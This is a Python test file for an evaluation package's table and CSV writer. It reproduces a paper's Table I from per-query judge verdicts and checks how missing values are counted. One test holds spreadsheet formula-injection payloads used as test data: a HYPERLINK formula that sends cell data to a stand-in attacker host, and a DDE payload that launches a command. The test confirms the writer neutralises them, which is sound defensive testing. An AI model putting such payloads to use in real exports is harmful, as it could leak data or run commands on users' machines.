"""The Table-I writer reproduces the paper's own Table I from per-query verdicts, and counts what is missing."""

from __future__ import annotations

import csv
from pathlib import Path

from research_crawler.eval.judges import JudgeVerdict
from research_crawler.eval.results import EvaluationResult, QueryResult, load_results, write_results
from research_crawler.eval.table import TRIAD_COLUMNS, render_markdown, site_table, tables_markdown

#: Successes out of 12 queries per site that give the paper's Table I (answer, context, groundedness).
PAPER = {
    "arxiv": ("Arxiv", 11, 12, 9),
    "biorxiv": ("Biorxiv", 8, 10, 12),
    "chemrxiv": ("Chemrxiv", 7, 9, 11),
    "medrxiv": ("Medrxiv", 8, 10, 11),
    "springer": ("Springer", 10, 8, 12),
}


def _verdict(metric: str, passed: bool | None) -> JudgeVerdict:
    status = "error" if passed is None else ("pass" if passed else "fail")
    return JudgeVerdict(metric=metric, status=status, reasoning="because")


def _paper_result() -> EvaluationResult:
    queries = []
    for site, (_, answer, context, grounded) in PAPER.items():
        for n in range(12):
            verdicts = {
                "answer_relevance": _verdict("answer_relevance", n < answer),
                "context_relevance": _verdict("context_relevance", n < context),
                "groundedness": _verdict("groundedness", n < grounded),
            }
            queries.append(
                QueryResult(
                    query_id=f"{site}/{n}",
                    site=site,
                    kind="general" if n < 6 else "specific",
                    query=f"query {n}",
                    verdicts=verdicts,
                )
            )
    return EvaluationResult(
        dataset="preprints",
        dataset_file="preprints.yaml",
        source="web",
        backend="openai",
        simulated_model=False,
        models={"planner": "gpt-4o"},
        judge="llm",
        judge_model="gpt-4o",
        sites=list(PAPER),
        site_titles={site: label for site, (label, *_) in PAPER.items()},
        queries=queries,
    )


def test_the_papers_table_i_comes_out() -> None:
    markdown = render_markdown(site_table(_paper_result(), TRIAD_COLUMNS[:3], title="Table I"))
    lines = markdown.splitlines()
    assert lines[2] == "| Source | Answer Relevance | Context Relevance | Groundedness | Queries |"
    arxiv = next(line for line in lines if line.startswith("| Arxiv"))
    assert arxiv == "| Arxiv | 0.92 ± 0.29 | 1.00 ± 0.00 | 0.75 ± 0.45 | 12 |"
    overall = next(line for line in lines if line.startswith("| **Overall**"))
    assert overall == "| **Overall** | 0.73 ± 0.14 | 0.82 ± 0.12 | 0.92 ± 0.10 | 60 |"  # the paper's last row
    springer = site_table(_paper_result(), TRIAD_COLUMNS, title="t").rows[-1]
    assert springer.label == "Springer" and springer.cells["answer_relevance"].mean == 10 / 12


def test_errors_and_undefined_values_are_left_out_and_counted() -> None:
    result = _paper_result()
    first = result.queries[0]
    first.verdicts["answer_relevance"] = _verdict("answer_relevance", None)
    table = site_table(result, TRIAD_COLUMNS, title="t")
    cell = table.rows[0].cells["answer_relevance"]
    assert (cell.n, cell.missing, cell.mean) == (11, 1, 10 / 11), "an error is neither a pass nor a fail"
    assert table.overall.cells["answer_relevance"].missing == 1
    markdown = render_markdown(table)
    assert "0.91 ± 0.30 (1 n/a)" in markdown
    assert "– (12 n/a)" in markdown, "no supported share without figures: shown as missing"


def test_single_values_have_no_spread_and_results_round_trip(tmp_path: Path) -> None:
    result = _paper_result()
    result.queries = [q for q in result.queries if q.query_id == "arxiv/0"]
    table = site_table(result, TRIAD_COLUMNS[:1], title="t")
    assert render_markdown(table).count("| 1.00 | 1 |") == 2  # the site and the overall row
    write_results(result, tmp_path)
    assert load_results(tmp_path) == result
    text = tables_markdown(result)
    assert text.startswith("# Evaluation of preprints") and "Ground truth" not in text
    csv_lines = (tmp_path / "results.csv").read_text().splitlines()
    assert len(csv_lines) == 2 and csv_lines[1].startswith("arxiv/0,arxiv,general,query 0,,1,pass,because,")


def test_a_judges_reasoning_or_a_query_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    result = _paper_result()
    result.queries = [q for q in result.queries if q.query_id == "arxiv/0"]
    result.queries[0].query = '=HYPERLINK("http://evil.example/?"&A1, "open")'
    result.queries[0].verdicts["groundedness"].reasoning = "@SUM(1+1)*cmd|' /C calc'!A0\x1b[2J"
    write_results(result, tmp_path)
    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["query"] == "'" + result.queries[0].query  # shown by a spreadsheet, never run
    assert row["groundedness_reasoning"] == "'@SUM(1+1)*cmd|' /C calc'!A0[2J"
    assert row["answer_relevance"] == "1", "numbers stay numbers"
